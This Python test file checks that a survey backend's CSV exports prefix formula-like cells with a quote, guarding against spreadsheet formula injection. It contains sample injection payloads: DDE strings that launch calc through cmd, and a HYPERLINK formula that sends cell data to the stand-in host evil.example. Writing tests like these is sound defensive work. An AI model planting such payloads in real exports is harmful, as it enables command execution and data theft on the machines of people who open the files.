"""CSV exports cannot carry live spreadsheet formulas (OWASP "CSV injection").

Respondent ids, free-text answers and segment names come from outside; a cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return is exported with a leading ``'`` unless
the analyst asks for raw values (``?raw=1``, ``--raw``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from sqlalchemy import Engine

from backend.api.app import create_app
from backend.services.responses import neutralise_cell
from backend.services.segments import recluster, rename_segment, write_export_csv
from backend.settings import Role, Settings
from backend.storage.engine import session_scope
from tests.helpers.lifestyle import seed_respondents

TOKEN = "analyst-token-0123456789"
WRITER = "marketer-token-0123456789"
NOTES = """
id: notes
title: Notes
sections:
  - id: main
    questions:
      - {id: calm, type: likert, text: I feel calm}
      - {id: note, type: text, text: "Anything else?", required: false}
      - {id: delta, type: number, text: A number, required: false, min: -10, max: 10}
dimensions:
  - id: serenity
    label: Serenity
    items: [{question: calm}]
"""
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
async def api(
    aiohttp_client: Callable[..., Awaitable[TestClient[Any, Any]]], engine: Engine
) -> TestClient[Any, Any]:
    settings = Settings(
        database_url="sqlite://", api_tokens={TOKEN: Role.ANALYST, WRITER: Role.MARKETER}
    )
    return await aiohttp_client(create_app(settings, engine))


def csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


async def import_hostile(api: TestClient[Any, Any]) -> None:
    headers = {"Authorization": f"Bearer {WRITER}"}
    assert (await api.post("/api/questionnaires", data=NOTES, headers=headers)).status == 201
    lines = ["respondent,calm,note,delta"]
    for i, value in enumerate(HOSTILE):
        lines.append(f"{csv_field(f'{value}#{i}')},3,{csv_field(value)},-{i + 1}")
    response = await api.post(
        "/api/questionnaires/notes/responses", data="\n".join(lines) + "\n", headers=headers
    )
    assert response.status == 201, await response.text()


async def export(api: TestClient[Any, Any], query: str = "") -> list[list[str]]:
    response = await api.get(
        f"/api/questionnaires/notes/responses.csv{query}",
        headers={"Authorization": f"Bearer {TOKEN}"},
    )
    assert response.status == 200, await response.text()
    return list(csv.reader(io.StringIO(await response.text())))


async def test_formula_cells_are_neutralised_in_the_responses_export(
    api: TestClient[Any, Any],
) -> None:
    await import_hostile(api)
    header, *rows = await export(api)
    _, *raw_rows = await export(api, "?raw=1")
    note, delta = header.index("note"), header.index("delta")
    assert len(rows) == len(HOSTILE)
    for row, raw in zip(rows, raw_rows, strict=True):
        # the stored text is a formula; the export hands it over as text
        assert raw[note].startswith(("=", "+", "-", "@", "\t", "\r")), raw[note]
        assert row[note] == "'" + raw[note]
        assert row[0] == "'" + raw[0]
        # numbers are not formulas: a negative answer stays a number
        assert row[delta] == raw[delta]
    assert sorted(float(row[delta]) for row in rows) == [-6.0, -5.0, -4.0, -3.0, -2.0, -1.0]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


async def test_raw_export_gives_analysts_the_stored_values(api: TestClient[Any, Any]) -> None:
    await import_hostile(api)
    header, *rows = await export(api, "?raw=1")
    note = header.index("note")
    assert '=HYPERLINK("http://evil.example/?"&A1,"Click")' in {row[note] for row in rows}
    header, *rows = await export(api, "?raw=0")
    assert all(row[note].startswith("'") for row in rows)


@pytest.mark.parametrize("flag", ["yes", "2", "%C2%B9", ""])
async def test_a_bad_raw_flag_is_refused(api: TestClient[Any, Any], flag: str) -> None:
    await import_hostile(api)
    response = await api.get(
        f"/api/questionnaires/notes/responses.csv?raw={flag}",
        headers={"Authorization": f"Bearer {TOKEN}"},
    )
    assert response.status == 400
    assert "raw" in (await response.json())["error"]


def test_a_segment_named_like_a_formula_is_neutralised_in_the_segments_export(
    sqlite_engine: Engine,
) -> None:
    seed_respondents(sqlite_engine, 300, seed=3)
    report = recluster(engine=sqlite_engine, questionnaire_key="lifestyle", random_state=0)
    with session_scope(sqlite_engine) as session:
        rename_segment(
            session=session, segment_id=report.segment_ids[0], name="=cmd|' /C calc'!A0"
        )

    safe, raw = io.StringIO(), io.StringIO()
    write_export_csv(engine=sqlite_engine, questionnaire_key="lifestyle", out=safe)
    write_export_csv(engine=sqlite_engine, questionnaire_key="lifestyle", out=raw, raw=True)

    names = {row[4] for row in list(csv.reader(io.StringIO(safe.getvalue())))[1:]}
    assert "'=cmd|' /C calc'!A0" in names
    assert not any(name.startswith("=") for name in names)
    raw_names = {row[4] for row in list(csv.reader(io.StringIO(raw.getvalue())))[1:]}
    assert "=cmd|' /C calc'!A0" in raw_names


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e3", "-2e3"),
        ("plain", "plain"),
        ("", ""),
        (-4, -4),
        (None, None),
    ],
)
def test_neutralise_cell(value: Any, expected: Any) -> None:
    assert neutralise_cell(value) == expected
